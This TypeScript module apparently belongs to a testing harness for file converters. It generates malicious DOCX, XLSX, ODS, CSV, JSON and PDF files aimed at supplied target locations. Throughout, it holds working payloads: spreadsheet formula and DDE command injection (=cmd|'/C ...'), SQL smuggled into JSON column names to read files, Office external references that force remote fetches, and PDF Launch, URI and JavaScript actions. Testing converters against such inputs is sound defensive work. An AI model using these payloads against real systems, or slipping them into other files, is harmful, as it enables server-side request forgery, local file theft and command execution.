import { type Attack, attack, memberOf, withMember, withMembers } from "../attack.ts";
import { eachOf, type Places, packageOf } from "./targets.ts";

/** Office documents, tables and PDF. */
export const documents = (places: Places): readonly Attack[] => {
  const each = eachOf(places);
  const [first] = places;
  const formulas = each(
    (place) =>
      `"=WEBSERVICE(""${place}"")","=cmd|'/C ${place}'!A0",+IMPORTXML("${place}"),@SUM(1),"=HYPERLINK(""${place}"",1)","='file://${place}'#$Sheet1.A1"`,
  );
  return [
    attack("docx", ["html", "pdf", "txt", "epub"], "all kinds of references", () => docxOf(places)),
    attack("xlsx", ["csv", "json", "html", "ods", "xlsb"], "all kinds of references", () => xlsxOf(places)),
    attack("ods", ["csv", "json", "html"], "all kinds of references", () =>
      withMember("ods", "content.xml", (text) =>
        text.replace(
          "<table:table-row",
          `${each((place) => `<table:table-source xlink:href="${place}" table:mode="copy-all"/><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${place}&quot;)"/><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;${place}&quot;;&quot;A1&quot;)"/></table:table-row>`)}<table:table-row`,
        ),
      ),
    ),
    attack(
      "csv",
      ["xlsx", "ods", "xls", "xlsb", "html", "json", "parquet", "sqlite"],
      "as formulas",
      () => `a,b,c,d,e,f\n${formulas}\n`,
    ),
    attack(
      "csv",
      ["json", "parquet"],
      "as file names",
      () => `${places.map((place) => `"${place}"`).join(",")}\nread_text('${first}'),x\n`,
    ),
    attack("json", ["csv", "parquet", "sqlite", "xlsx"], "as column names", () =>
      JSON.stringify([
        Object.fromEntries(
          places.map((place) => [
            `"; ATTACH '${place}'; SELECT read_text('${place}') --`,
            `'||read_text('${place}')||'`,
          ]),
        ),
      ]),
    ),
    attack("pdf", ["png", "txt", "html", "docx", "pptx", "pdf"], "all kinds of references", () => pdfOf(places)),
  ];
};

/** @returns a relationship of the type to each target, external and within the package */
const relationsOf = (places: Places, type: string): string =>
  eachOf(places)(
    (place, index) =>
      `<Relationship Id="out${index}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${place}" TargetMode="External"/><Relationship Id="in${index}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${place}"/>`,
  );
const docxOf = async (places: Places): Promise<Buffer> => {
  const types = ["image", "attachedTemplate", "aFChunk"];
  const rels = packageOf(types.map((type) => relationsOf(places, type)).join(""));
  const drawings = eachOf(places)(
    (place, index) =>
      `<w:p><w:r>${["out", "in"].map((id) => `<w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}${index}" r:embed="${id}${index}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`).join("")}<w:instrText>INCLUDETEXT "${place}"</w:instrText><w:instrText>INCLUDEPICTURE "${place}"</w:instrText></w:r></w:p><w:altChunk r:id="out${index}"/>`,
  );
  const document = await memberOf("docx", "word/document.xml");
  return withMembers("docx", [
    { name: "word/document.xml", bytes: document.replace("<w:body>", `<w:body>${drawings}`) },
    { name: "word/_rels/document.xml.rels", bytes: rels },
    { name: "word/_rels/settings.xml.rels", bytes: rels },
    {
      name: "word/settings.xml",
      bytes:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="out0"/></w:settings>',
    },
  ]);
};

const xlsxOf = async (places: Places): Promise<Buffer> => {
  const names = eachOf(places)((_, index) => `<externalReference r:id="out${index}"/>`);
  const workbook = await memberOf("xlsx", "xl/workbook.xml");
  const own =
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>';
  const relations = (types: readonly string[]): string => types.map((type) => relationsOf(places, type)).join("");
  return withMembers("xlsx", [
    {
      name: "xl/workbook.xml",
      bytes: workbook.replace(
        "</sheets>",
        `</sheets><externalReferences>${names}</externalReferences><definedNames><definedName name="a">'${places[0]}'!A1</definedName></definedNames>`,
      ),
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      bytes: packageOf(`${own}${relations(["externalLink", "sharedStrings", "worksheet"])}`),
    },
    {
      name: "xl/worksheets/_rels/sheet1.xml.rels",
      bytes: packageOf(relations(["image", "comments", "hyperlink"])),
    },
    {
      name: "xl/connections.xml",
      bytes: `<connections>${eachOf(places)((place) => `<connection id="1" type="4"><webPr url="${place}"/></connection>`)}</connections>`,
    },
  ]);
};

const pdfOf = (places: Places): string => {
  const [first] = places;
  const actions = places.flatMap((place) => [
    `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(${place})>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(${place})>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F(${place})/D[0/Fit]>>>>`,
    `<</Type/Annot/Subtype/FileAttachment/Rect[0 0 99 99]/FS<</Type/Filespec/F(${place})>>>>`,
    `<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/Rect[0 0 99 99]/A<</S/SubmitForm/F<</FS/URL/F(${place})>>>>/AA<</PO<</S/ImportData/F(${place})>>/O<</S/JavaScript/JS(app.launchURL\\("${place}"\\))>>>>>>`,
  ]);
  const pictures = places.map(
    (place) =>
      `<</Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/F<</Type/Filespec/FS/URL/F(${place})>>/Length 0>>stream\n\nendstream`,
  );
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${first})>>/AcroForm<</Fields[]/XFA(${first})>>>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[${actions.join("")}]/Contents 4 0 R/Resources<</XObject<<${pictures.map((_, index) => `/P${index} ${index + 5} 0 R`).join("")}>>>>>>`,
    `<</Length 0/F(${places[1] ?? first})>>stream\n${pictures.map((_, index) => `/P${index} Do`).join(" ")}\nendstream`,
    ...pictures,
  ];
  return `%PDF-1.7\n${objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join("")}trailer\n<</Root 1 0 R>>\n%%EOF\n`;
};
